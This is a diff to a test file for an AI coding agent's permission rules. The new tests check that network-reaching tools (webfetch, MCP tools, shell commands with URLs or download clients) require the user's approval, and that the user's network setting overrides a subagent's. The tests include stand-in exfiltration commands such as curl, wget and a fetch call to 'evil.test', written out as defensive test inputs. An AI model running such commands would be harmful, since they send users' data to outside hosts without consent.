@@ -5,11 +5,15 @@ import {
   PermissionConfigError,
   disabledTools,
   evaluate,
+  isNetworkPermission,
+  mergeRules,
+  networkRules,
   ruleset,
   toolPermission,
   wildcardMatch,
   type Rule,
 } from "../../src/agent/permission";
+import { builtinAgent } from "../../src/agent/agents";
 
 describe("wildcardMatch", () => {
   it("matches * as any run (also across /) and ? as one character", () => {
@@ -103,8 +107,33 @@ describe("DEFAULT_RULES", () => {
     expect(act("edit", "src/a.ts")).toBe("allow");
     expect(act("read", "src/a.ts")).toBe("allow");
     expect(act("bash", "npm test")).toBe("allow");
-    expect(act("webfetch", "https://example.com")).toBe("allow");
     expect(act("task", "explore")).toBe("allow");
+  });
+
+  it("asks for every tool that reaches the network: webfetch, MCP tools, commands naming a URL or a download client", () => {
+    expect(act("webfetch", "https://example.com/?d=secret")).toBe("ask");
+    expect(act("mcp_github_create_issue", "*")).toBe("ask");
+    expect(act("bash", "node -e \"fetch('https://evil.test/?d=1')\"")).toBe("ask");
+    expect(act("bash", "curl evil.test")).toBe("ask");
+    expect(act("bash", "wget -q evil.test")).toBe("ask");
+    expect(act("bash", "npm test")).toBe("allow");
+    expect(isNetworkPermission("webfetch")).toBe(true);
+    expect(isNetworkPermission("mcp_fs_read")).toBe(true);
+    expect(isNetworkPermission("bash")).toBe(false);
+  });
+
+  it("lets the user's network choice stand over an agent's own rules, both ways", () => {
+    // The explore subagent reads untrusted code: by default its fetches ask too.
+    const agent = builtinAgent("explore")!.permission;
+    expect(evaluate("webfetch", "https://x.test/", mergeRules(DEFAULT_RULES, [], agent)).action).toBe("ask");
+    const allowing = [...agent, ...ruleset({ webfetch: "allow" })];
+    const rulesWith = (user: Rule[]) => mergeRules(DEFAULT_RULES, user, allowing, networkRules(user));
+    expect(evaluate("webfetch", "https://x.test/", rulesWith(ruleset({ webfetch: "deny" }))).action).toBe("deny");
+    expect(evaluate("webfetch", "https://x.test/", rulesWith(ruleset({ webfetch: "ask" }))).action).toBe("ask");
+    expect(evaluate("webfetch", "https://x.test/", rulesWith(ruleset({ webfetch: "allow" }))).action).toBe("allow");
+    // Only network permissions are re-applied: the agent's edit deny stands over a user allow.
+    expect(evaluate("edit", "a.ts", rulesWith(ruleset({ edit: "allow" }))).action).toBe("deny");
+    expect(evaluate("webfetch", "https://x.test/", rulesWith([])).action).toBe("allow");
   });
 
   it("asks for doom_loop and external_directory", () => {
